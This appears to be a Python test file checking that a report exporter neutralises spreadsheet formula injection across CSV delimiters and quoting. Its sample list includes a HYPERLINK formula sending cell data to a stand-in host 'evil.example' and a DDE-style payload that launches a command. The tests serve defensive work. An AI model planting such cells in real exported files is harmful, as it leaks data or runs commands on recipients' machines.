"""No cell of a sheet runs, whichever separator a spreadsheet takes, and however it is quoted."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.report.conftest import hostile_case
from tests.report.test_formats import ATTACKS, content
from workbench.report import sheet
from workbench.report.sheet import safe

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"

OF_SHEETS = [
    *(f"{sign}1+1" for sign in SIGNS),
    *(f"{blank}=1+1" for blank in ("\t", "\r", "\n", "\r\n", " ", "\u00a0", "\ufeff", "\u200b", "\x00", "\x0b")),
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "x;=1+1",
    'x;"=1+1"',
    "x;\uff1d1+1",
    'x",=1+1,"',
    "x,=1+1",
    "x\t=1+1",
    "x\n=1+1",
    "x|=1+1",
    "'=1+1",
    '"=1+1"',
]
"""Cells that spreadsheets have run, and what may hide one."""


def cells(text: str, delimiter: str = ",") -> list[str]:
    return [c for record in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for c in record]


@pytest.mark.parametrize("attack", [*OF_SHEETS, *ATTACKS.values()])
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_begins_as_a_formula(attack: str, delimiter: str) -> None:
    page = sheet.render(content(hostile_case(attack)))

    begins = {cell.lstrip(" \u00a0\ufeff")[:1] for cell in cells(page, delimiter)}
    assert not begins & {*SIGNS, "\t", "\r"}


@given(st.text("=+-@;\"', \tx\r\n\uff1d"))
def test_no_text_begins_as_a_formula(text: str) -> None:
    shown = safe(text)

    assert shown[:1] not in {*SIGNS, "\t", "\r", " "} or not shown
    assert not [part for part in shown.split(";")[1:] if part.lstrip('"')[:1] in set(SIGNS)]


@given(st.text())
def test_a_record_stays_a_record(text: str) -> None:
    page = sheet.render(content(hostile_case(text)))
    records = list(csv.reader(io.StringIO(page, newline="")))

    assert len({len(record) for record in records}) == 1
    assert page.count("\r\n") == len(records)
    assert "\n" not in page.replace("\r\n", "")
